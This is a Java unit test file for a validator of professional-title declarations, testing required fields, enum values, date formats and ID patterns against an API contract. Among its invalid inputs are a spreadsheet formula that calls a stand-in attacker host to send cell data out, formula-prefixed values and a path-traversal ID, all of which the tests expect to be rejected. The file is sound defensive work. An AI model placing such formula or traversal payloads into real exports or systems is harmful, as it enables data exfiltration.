package gx.zhicheng.pull;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.IntNode;
import com.fasterxml.jackson.databind.node.TextNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.datatype.jsr310.JavaTimeModule;
import com.fasterxml.jackson.databind.DeserializationFeature;
import java.nio.file.Path;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.Test;

class DeclarationValidatorTest {

    private static final ObjectMapper json = new ObjectMapper().registerModule(new JavaTimeModule())
            .disable(DeserializationFeature.FAIL_ON_UNKNOWN_PROPERTIES)
            .disable(DeserializationFeature.ADJUST_DATES_TO_CONTEXT_TIME_ZONE);
    /** Reads the contract's schema from the classpath (target/classes/contract/, copied from docs/contract/). */
    private static final DeclarationValidator validator = new DeclarationValidator(json);

    private ObjectNode valid() throws Exception {
        return (ObjectNode) json.readTree("""
                {"declarationId":"GX2022-0000001","version":1,"updatedAt":"2022-06-10T09:00:00+08:00","year":2022,
                 "declaredOn":"2022-06-10","status":"SUBMITTED","applicant":{"name":"张伟","idNumber":"45140219900101001X"},
                 "category":"PUBLIC_INSTITUTION","employer":null,"series":"ENGINEERING","level":"INTERMEDIATE",
                 "workHistory":[{"employerName":"崇左市人民医院","from":"2015-07","to":null}],
                 "someFieldThePlatformAddedLater":{"x":1}}""");
    }

    @Test
    void acceptsAContractDeclarationAndIgnoresUnknownFields() throws Exception {
        assertThat(validator.validate(valid())).isInstanceOf(DeclarationValidator.Valid.class);
    }

    static Stream<Arguments> wellFormed() {
        return Stream.of(
                Arguments.of("a series this rules version does not know", (Consumer<ObjectNode>) n -> n.put("series", "SPACE_MINING_2")),
                Arguments.of("an ID of 64 characters", (Consumer<ObjectNode>) n -> n.put("declarationId", "G" + "x".repeat(62) + "-")),
                Arguments.of("an ID with an underscore", (Consumer<ObjectNode>) n -> n.put("declarationId", "GX_2022-1")),
                Arguments.of("a region code of digits", (Consumer<ObjectNode>) n -> n.putObject("employer").put("name", "崇左市人民医院")
                        .put("regionCode", "451402")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("wellFormed")
    void keepsWellFormedCodesAndIds(String what, Consumer<ObjectNode> change) throws Exception {
        ObjectNode item = valid();
        change.accept(item);

        assertThat(validator.validate(item)).isInstanceOf(DeclarationValidator.Valid.class);
    }

    static Stream<Arguments> invalid() {
        return Stream.of(
                Arguments.of("missing level", (Consumer<ObjectNode>) n -> n.remove("level"), "level: required"),
                Arguments.of("null applicant id", (Consumer<ObjectNode>) n -> ((ObjectNode) n.get("applicant")).putNull("idNumber"),
                        "applicant.idNumber: required"),
                Arguments.of("unknown category", (Consumer<ObjectNode>) n -> n.put("category", "MILITARY"),
                        "category: invalid value 'MILITARY'"),
                Arguments.of("malformed date", (Consumer<ObjectNode>) n -> n.put("declaredOn", "2022-13-45"), "declaredOn"),
                Arguments.of("year of another year", (Consumer<ObjectNode>) n -> n.put("year", 2021),
                        "year 2021 is not the year of declaredOn 2022-06-10"),
                Arguments.of("work entry without from",
                        (Consumer<ObjectNode>) n -> ((ObjectNode) n.get("workHistory").get(0)).remove("from"),
                        "workHistory[0].from: required"),
                Arguments.of("malformed month", (Consumer<ObjectNode>) n -> ((ObjectNode) n.get("workHistory").get(0)).put("from", "2015-13"),
                        "workHistory[0].from"),
                Arguments.of("series a spreadsheet formula",
                        (Consumer<ObjectNode>) n -> n.put("series", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
                        "series: '=HYPERLINK(\"http://evil.example/?\"&A1,\"x…' is not a code"),
                Arguments.of("series in lower case", (Consumer<ObjectNode>) n -> n.put("series", "engineering"),
                        "series: 'engineering' is not a code"),
                Arguments.of("series not text", (Consumer<ObjectNode>) n -> n.putObject("series"), "series: wrong type (string expected)"),
                // level and category are enums in the contract: their reason is the enum's, the value still shown
                Arguments.of("level with a formula", (Consumer<ObjectNode>) n -> n.put("level", "-1+1"),
                        "level: invalid value '-1+1' (not one of the contract's values)"),
                Arguments.of("category with a space", (Consumer<ObjectNode>) n -> n.put("category", "PUBLIC INSTITUTION"),
                        "category: invalid value 'PUBLIC INSTITUTION' (not one of the contract's values)"),
                Arguments.of("current title series", (Consumer<ObjectNode>) n -> n.putObject("currentTitle").put("series", "@SUM(A1)"),
                        "currentTitle.series: '@SUM(A1)' is not a code"),
                Arguments.of("region code with a tab", (Consumer<ObjectNode>) n -> n.putObject("employer").put("name", "崇左市人民医院")
                        .put("regionCode", "\t451402"), "employer.regionCode"),
                Arguments.of("declaration ID with a slash", (Consumer<ObjectNode>) n -> n.put("declarationId", "GX2022/../x"),
                        "declarationId: not a declaration ID"),
                Arguments.of("declaration ID of 65 characters", (Consumer<ObjectNode>) n -> n.put("declarationId", "G".repeat(65)),
                        "declarationId: not a declaration ID"),
                Arguments.of("declaration ID with a space", (Consumer<ObjectNode>) n -> n.put("declarationId", "GX2022 1"),
                        "declarationId: not a declaration ID"),
                Arguments.of("declaration ID a number", (Consumer<ObjectNode>) n -> n.put("declarationId", 20220001),
                        "declarationId: wrong type (string expected)"),
                Arguments.of("declaration ID with a line break at its end", (Consumer<ObjectNode>) n -> n.put("declarationId", "GX2022-1\n"),
                        "declarationId: not a declaration ID"),
                Arguments.of("version 0", (Consumer<ObjectNode>) n -> n.put("version", 0), "version: must be at least 1"),
                Arguments.of("year as text", (Consumer<ObjectNode>) n -> n.put("year", "2022"), "year: wrong type (integer expected)"),
                Arguments.of("work history not a list", (Consumer<ObjectNode>) n -> n.put("workHistory", "2015-07"),
                        "workHistory: wrong type (array expected)"),
                Arguments.of("update time without its offset", (Consumer<ObjectNode>) n -> n.put("updatedAt", "2022-06-10T09:00:00"),
                        "updatedAt: invalid value '2022-06-10T09:00:00' (malformed)"),
                Arguments.of("null level", (Consumer<ObjectNode>) n -> n.putNull("level"), "level: required"),
                Arguments.of("null for an optional field that may not be null",
                        (Consumer<ObjectNode>) n -> n.putNull("education"), "education: null, which the contract does not allow here"),
                // named nowhere in the Java code: the contract requires fileId of every attachment
                Arguments.of("attachment without its file",
                        (Consumer<ObjectNode>) n -> n.putArray("attachments").addObject().put("type", "OTHER"),
                        "attachments[0].fileId: required"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("invalid")
    void parksWithAReason(String what, Consumer<ObjectNode> breakIt, String reason) throws Exception {
        ObjectNode item = valid();
        breakIt.accept(item);

        var result = validator.validate(item);

        assertThat(result).isInstanceOf(DeclarationValidator.Invalid.class);
        assertThat(((DeclarationValidator.Invalid) result).reason()).contains(reason);
    }

    /**
     * Every property the contract requires, read here from docs/contract/platform-api.yaml (the Declaration, its
     * applicant and a work entry), is reported by name when it is missing: the validator follows the contract, not a
     * list of its own.
     */
    static Stream<Arguments> requiredByTheContract() throws Exception {
        JsonNode schemas = new YAMLMapper().readTree(Path.of("docs/contract/platform-api.yaml").toFile())
                .at("/components/schemas/Declaration");
        Stream.Builder<Arguments> fields = Stream.builder();
        schemas.path("required").forEach(f -> fields.add(Arguments.of("", f.asText())));
        schemas.at("/properties/applicant/required").forEach(f -> fields.add(Arguments.of("/applicant", f.asText())));
        schemas.at("/properties/workHistory/items/required").forEach(f -> fields.add(Arguments.of("/workHistory/0", f.asText())));
        return fields.build();
    }

    @ParameterizedTest(name = "{0}/{1}")
    @MethodSource("requiredByTheContract")
    void reportsEachFieldTheContractRequires(String parent, String field) throws Exception {
        ObjectNode item = valid();
        ((ObjectNode) item.at(parent)).remove(field);

        var result = validator.validate(item);

        assertThat(result).isInstanceOf(DeclarationValidator.Invalid.class);
        String path = (parent.replace("/0", "[0]").replace('/', '.') + "." + field).substring(1);
        assertThat(((DeclarationValidator.Invalid) result).reason()).isEqualTo(path + ": required");
    }

    @Test
    void reportsEveryProblemAtOnce() throws Exception {
        ObjectNode item = valid();
        item.remove("level");
        ((ObjectNode) item.get("applicant")).remove("idNumber");
        item.put("series", "engineering");

        var result = validator.validate(item);

        assertThat(((DeclarationValidator.Invalid) result).reason().split("; ")).containsExactlyInAnyOrder("level: required",
                "applicant.idNumber: required", "series: 'engineering' is not a code (upper-case letters, digits and underscores)");
    }

    @Test
    void tellsADeclarationIdByTheContract() {
        assertThat(validator.isDeclarationId(TextNode.valueOf("GX2022-0001001"))).isTrue();
        assertThat(validator.isDeclarationId(TextNode.valueOf("GX2022/../x"))).isFalse();
        assertThat(validator.isDeclarationId(TextNode.valueOf("G".repeat(65)))).isFalse();
        assertThat(validator.isDeclarationId(IntNode.valueOf(20220001))).isFalse();
    }
}
